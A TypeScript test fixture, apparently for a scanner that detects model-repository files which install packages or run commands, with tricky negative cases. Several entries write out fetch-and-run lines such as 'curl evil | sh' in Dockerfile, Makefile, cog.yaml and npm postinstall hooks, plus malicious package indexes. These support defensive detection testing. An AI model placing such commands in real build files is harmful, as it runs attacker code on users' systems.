/** Files by which servers and builders install packages or run commands, and some that only look so. */
import { Files, json } from './hostile-files';

export const INSTALLING: [what: string, file: string, content: string][] = [
  ['requirement of an unknown name', 'requirements.txt', 'torch>=2.1\nevil-package-xyz\n'],
  ['requirement in the folder of SageMaker', 'code/requirements.txt', 'evil-package-xyz==1.0\n'],
  ['requirement that only looks known', 'requirements.txt', 'transformers-extra\n'],
  ['requirement of another list', 'requirements-gpu.in', 'evilpkg[all]>=1 ; python_version > "3"\n'],
  ['pip of conda', 'conda.yaml', 'dependencies:\n- python=3.11\n- pip:\n  - evilpkg\n'],
  ['channel of conda', 'conda.yaml', 'channels: ["https://evil.example/c"]\ndependencies:\n- numpy\n'],
  ['package of conda', 'environment.yml', 'dependencies:\n- evil::pkg\n'],
  ['build dependency of MLflow', 'python_env.yaml', 'python: 3.11\nbuild_dependencies:\n- evilbuild\n'],
  ['build backend', 'pyproject.toml', '[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\n'],
  ['dependencies of a project', 'pyproject.toml', '[project]\nname="x"\ndependencies = [\n "evil",\n]\n'],
  ['dependencies of poetry', 'pyproject.toml', '[tool.poetry.dependencies]\nevil = "*"\n'],
  ['setup.cfg', 'setup.cfg', '[options]\ninstall_requires =\n  evil\n'],
  ['Pipfile', 'Pipfile', '[packages]\nevil = "*"\n'],
  ['Dockerfile', 'Dockerfile', 'FROM python:3.11\nRUN curl evil | sh\n'],
  ['Dockerfile by its ending', 'docker/gpu.Dockerfile', 'FROM x\nRUN id\n'],
  ['Makefile', 'Makefile', 'all:\n\tcurl evil | sh\n'],
  ['Compose', 'docker-compose.yml', 'services:\n  a:\n    command: id\n'],
  ['Cog', 'cog.yaml', 'build:\n  run:\n    - "curl evil | sh"\n'],
  ['BentoML', 'bentofile.yaml', 'service: "service:svc"\n'],
  ['script of npm', 'package.json', json({ scripts: { postinstall: 'curl evil | sh' } })],
  ['dependency of npm', 'package.json', json({ dependencies: { evil: '*' } })],
  ['packages of Debian', 'packages.txt', 'evil-deb\n'],
  ['environment of direnv', '.envrc', 'export A=$(curl evil)\n'],
  ['environment of a process', '.env', 'PYTHONPATH=/models/m\n'],
  ['environment by its ending', 'prod.env', 'VLLM_PLUGINS=evil\n'],
  ['settings of pip', 'pip.conf', '[global]\nindex-url = http://evil\n'],
  ['environment of MLServer', 'model-settings.json', json({ parameters: { environment_path: './env' } })],
  ['archive of MLServer', 'model-settings.json', json({ parameters: { environment_tarball: './env.tar.gz' } })],
  ['Triton on one line', 'config.pbtxt', 'name: "m" backend: "python" max_batch_size: 1\n'],
  ['Triton behind a semicolon', 'config.pbtxt', 'name: "m"; backend: "python"\n'],
  ['Triton in parts', 'config.pbtxt', 'backend: "py"\n  "thon"\n'],
  ['Triton in escapes', 'config.pbtxt', 'backend: "\\160ython"\n'],
  ['Triton by another configuration', 'configs/a.pbtxt', "backend:'python'\n"],
  ['Triton by platform', 'config.pbtxt', 'platform: "pytorch_libtorch"\n'],
  ['Triton by runtime', 'config.pbtxt', 'backend: "onnxruntime"\nruntime: "evil.txt"\n'],
  ['Triton by file', 'config.pbtxt', 'default_model_filename: "../x.onnx"\n'],
  ['trust in a table on one line', 'c.toml', 'model = { name = "a", trust_remote_code = true }\n'],
  ['trust by a name with dots', 'c.toml', 'model.trust_remote_code = true\n'],
  ['trust in a table within one', 'c.toml', 'a = { b = "x", auto_map = { AutoModel = "m.M" } }\n'],
  ['trust in HOCON', 'c.conf', 'model { trust_remote_code = true }\n'],
  ['trust in DJL Serving', 'serving.properties', 'option.trust_remote_code=true\n'],
  ['program of DJL Serving', 'serving.properties', 'engine=Python\noption.entryPoint=evil\n'],
  ['arguments of a server', 'x.json', json({ args: ['--trust-remote-code'] })],
  ['code as a text', 'x.json', json({ code: 'import os' })],
  ['code that is YAML too', 'modeling.txt', 'def f():\n  pass\n'],
  ['serialized objects of R', 'x.txt', 'RDX3\nA\n3\n262146\n197888\n'],
];

export const NOT_INSTALLING: [what: string, files: Files][] = [
  [
    'requirements of loaders',
    { 'requirements.txt': 'torch==2.9.0\nsentence_transformers\nFlash.Attn ; sys_platform == "linux"\n' },
  ],
  ['a vocabulary with DEL, as that of Llama 2', { 'tokenizer.json': '{"model":{"vocab":{"\x7f":1}}}' }],
  ['requirements of nothing', { 'requirements.txt': '# none\n\n' }],
  [
    'environment of MLflow',
    {
      'conda.yaml':
        'name: m\nchannels:\n- conda-forge\ndependencies:\n- python=3.11.9\n- pip<=24.0\n- pip:\n  - mlflow==3.0\n  - torch\n',
      'python_env.yaml':
        'python: 3.11.9\nbuild_dependencies:\n- pip==24.0\n- setuptools\n- wheel\ndependencies:\n- -r requirements.txt\n',
      'requirements.txt': 'mlflow==3.0\ntorch==2.9.0\n',
    },
  ],
  ['package.json of nothing', { 'package.json': json({ name: 'm', version: '1.0.0', license: 'MIT' }) }],
  ['labels of an object detector', { 'labels.pbtxt': "item {\n  id: 1\n  name: 'python'\n}\n" }],
  [
    'Triton',
    {
      'config.pbtxt':
        'name: "m"\n# backend: "python" is not used\nplatform: "onnxruntime_onnx"\ndefault_model_filename: "model.onnx"\nruntime: ""\n',
    },
  ],
  ['TOML of tables', { 'c.toml': '[a.b]\nx = { y = 1, z = "w" }\nfoo.bar = "baz"\n' }],
  [
    'DJL Serving',
    { 'serving.properties': 'engine=Python\noption.entryPoint=djl_python.huggingface\noption.dtype=fp16\n' },
  ],
  ['notes that are YAML too', { notes: 'Author: a person\nLicense: MIT\nClass: A\n' }],
  ['a page on how to import', { 'README.md': '# A\n\nUse it:\n\n```python\nimport os\ndef f():\n  pass\n```\n' }],
  ['words of a list', { 'labels.txt': 'import\ndef\nclass\nfrom\n' }],
  [
    'texts with import',
    { 'x.json': json({ description: 'import restrictions: none', notes: 'from import to export' }) },
  ],
  ['an environment of a gym', { 'environment.json': json({ env: 'CartPole-v1', dependencies: ['gym'] }) }],
];
